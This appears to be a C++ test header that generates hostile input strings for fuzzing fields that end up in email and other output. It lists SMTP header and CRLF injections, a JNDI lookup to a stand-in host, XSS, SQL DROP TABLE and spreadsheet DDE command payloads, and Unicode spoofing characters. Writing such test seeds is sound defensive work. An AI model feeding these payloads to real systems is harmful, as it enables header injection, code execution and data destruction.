// What somebody may put into a name, an address or a fact in order to get something through to a wire.
#pragma once

#include <string>
#include <string_view>
#include <vector>

namespace breachd {

inline std::vector<std::string> trick_seeds() {
    using namespace std::string_literals;
    std::vector<std::string> out{
        "\r\nBcc: la@noikhac.test",
        "\nBcc: la@noikhac.test",
        "\rBcc: la@noikhac.test",
        "\r\n\r\nmột thân thư khác",
        "\r\n.\r\nMAIL FROM:<la@noikhac.test>",
        "\n.\nQUIT",
        "%0d%0aBcc: la@noikhac.test",
        "=?UTF-8?B?DQpCY2M6IGxhQG5vaWtoYWMudGVzdA==?=",
        "\0x"s,
        "a\0b"s,
        "\x01\x02\x1b[31m",
        "\x7f",
        "\b\b\b",
        "\v\f",
        "\xc2\x85"
        "Bcc: x",  // next line
        "\xe2\x80\xa8"
        "Bcc: x",  // line separator
        "\xe2\x80\xa9"
        "Bcc: x",  // paragraph separator
        "\xe2\x80\xae"
        "gnp.exe",       // right-to-left override
        "\xe2\x80\xad",  // left-to-right override
        "\xe2\x80\xab\xe2\x80\xac",
        "\xe2\x81\xa6\xe2\x81\xa9",
        "\xe2\x80\x8e\xe2\x80\x8f",
        "\xe2\x80\x8b\xe2\x80\x8c\xe2\x80\x8d",
        "\xef\xbb\xbf",
        "\xff\xfe",
        "\xc0\xaf",
        "\xed\xa0\x80",
        "\xf4\x90\x80\x80",
        "{{code}}",
        "{{{name}}}",
        "{{name}}{{code}}{{kinds}}",
        "{{#x}}{{/x}}",
        "{{content_url}}",
        "{name}{code}{text}",
        "${jndi:ldap://la.test/a}",
        "%s%n%x",
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "</title><h1>",
        "&lt;b&gt;",
        "javascript:alert(1)",
        "\",\"Phone\":\"84900000000\",\"x\":\"",
        "\"}],\"to\":[{\"",
        "\\u000d\\u000aBcc",
        "\\",
        "\"",
        "'; DROP TABLE subjects; --",
        "=HYPERLINK(\"http://la.test\")",
        "=cmd|' /C calc'!A0",
        "+84901000003+cmd",
        "-1+1",
        "@SUM(1,1)",
        "\t=1+1",
        "\r=1+1",
        "a,b;c|d\te",
        "an@hopthu.test, la@noikhac.test",
        "<an@hopthu.test> SIZE=1",
        "an@hopthu.test> RCPT TO:<la@noikhac.test",
        "an@hopthu.test\r\nRCPT TO:<la@noikhac.test>",
    };
    out.emplace_back(10'000, 'x');
    std::string marks;
    for (int i = 0; i < 3'400; ++i) marks += "ộ";
    out.push_back(marks);
    std::string zalgo = "a";
    for (int i = 0; i < 2'000; ++i) zalgo += "\xcc\x81";
    out.push_back(zalgo);
    return out;
}

// Each seed alone, in front of, in the middle of and behind something harmless, twice, and mixed with the next one.
inline std::vector<std::string> tricks(std::string_view harmless) {
    std::vector<std::string> out;
    auto seeds = trick_seeds();
    auto half = harmless.size() / 2;
    for (std::size_t i = 0; i < seeds.size(); ++i) {
        const auto& seed = seeds[i];
        std::string front(harmless.substr(0, half)), back(harmless.substr(half)), whole(harmless);
        out.push_back(seed);
        out.push_back(seed + whole);
        out.push_back(whole + seed);
        out.push_back(front + seed + back);
        out.push_back(whole + seed + seed);
        out.push_back(front + seed + back + seeds[(i + 1) % seeds.size()]);
        out.push_back(seed + whole + seeds[(i + 7) % seeds.size()]);
    }
    return out;
}

}  // namespace breachd
